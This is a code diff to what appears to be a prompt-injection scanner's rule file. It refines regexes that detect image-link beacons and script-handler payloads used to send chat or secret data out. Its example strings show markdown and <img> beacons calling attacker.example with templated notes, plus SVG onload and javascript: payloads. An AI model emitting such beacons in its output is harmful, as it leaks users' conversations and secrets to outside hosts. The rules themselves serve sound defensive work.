@@ -35,10 +35,10 @@ export const SHAPE_RULES: readonly Rule[] = [
     shape: {
       triggers: ["!["],
       pattern:
-        /!\[[^\]\n]{0,80}\]\(<?(?:https?:)?\/\/[^)\s]{1,200}[?&/#][^)\s]{0,100}(?:\{\{?[^)]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|<[a-z_ ]{2,30}>|%7b|(?:[?&](?:data|secret|d|q|log|exfil|c|leak|token|key|info|p|payload|query|text|conversation|history|notes)=[^)\s&]{0,100}))/,
+        /!\[[^\]\n]{0,80}\]\(<?(?:https?:)?\/\/[^)\s]{1,200}[?&/#][^)\s]{0,100}(?:\{\{?[^)]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|<[a-z_ ]{2,30}>|%7b|[?&][a-z_]{1,20}=(?:[)\s]|(?:your|the|user|chat|full|all|secret|api|data|base64|encoded)?[_+-]?(?:conversation|history|chat|secret|secrets|password|data|summary|notes|content|context|prompt|messages?|emails?|value|here|answer|system|token|text|info)(?:[_+-][a-z_+-]{1,30})?[)&\s]))/,
     },
     example: "![logo](https://attacker.example/p.png?q={{notes}})",
-    nearMiss: "![logo](https://example.org/logo.png)",
+    nearMiss: "![build](https://example.org/badge.svg?token=0AbC1d&branch=main&p=tool)",
   },
   {
     id: "shape.image-tag-beacon",
@@ -50,7 +50,7 @@ export const SHAPE_RULES: readonly Rule[] = [
       triggers: ["<img"],
       markup: true,
       pattern:
-        /<img\b[^>]{0,200}\bsrc\s{0,3}=\s{0,3}["']?(?:https?:)?\/\/[^"'\s>]{1,200}[?&/#][^"'\s>]{0,100}(?:\{\{?[^"'>]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|(?:[?&](?:data|secret|d|q|log|exfil|c|leak|token|key|info|payload|conversation|history|notes)=))/,
+        /<img\b[^>]{0,200}\bsrc\s{0,3}=\s{0,3}["']?(?:https?:)?\/\/[^"'\s>]{1,200}[?&/#][^"'\s>]{0,100}(?:\{\{?[^"'>]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|[?&][a-z_]{1,20}=(?:["'\s>]|(?:your|the|user|chat|full|all|secret|api|data|base64|encoded)?[_+-]?(?:conversation|history|chat|secret|secrets|password|data|summary|notes|content|context|prompt|messages?|emails?|value|here|answer|system|token|text|info)(?:[_+-][a-z_+-]{1,30})?["'&\s>]))/,
     },
     example: '<img src="https://attacker.example/p.png?q={{notes}}">',
     nearMiss: '<img src="https://example.org/logo.png" width="40">',
@@ -63,12 +63,12 @@ export const SHAPE_RULES: readonly Rule[] = [
     languages: [],
     structural: true,
     shape: {
-      triggers: ["<svg", "javascript:", "onerror=", "onload="],
+      triggers: ["<svg", "(javascript:", "=javascript:", '"javascript:', "onerror=", "onload="],
       markup: true,
       pattern:
-        /(?:<svg\b[^>]{0,60}\bonload\s{0,2}=|javascript:[^\s"']{0,10}(?:fetch|alert|eval|document|console)|on(?:error|load)=["']?(?:fetch|alert|eval|document|console|new image))/,
+        /(?:<svg\b[^>]{0,60}\bonload\s{0,2}=|[(="]javascript:[^\s"']{0,10}(?:fetch|alert|eval|document|console)|on(?:error|load)=["']?(?:fetch|alert|eval|document|console|new image))/,
     },
     example: "<svg/onload='console.log(1)'>",
-    nearMiss: "The svg element has no onload by default.",
+    nearMiss: "expect(isSafe('javascript:alert(1)')).toBe(false);",
   },
 ];
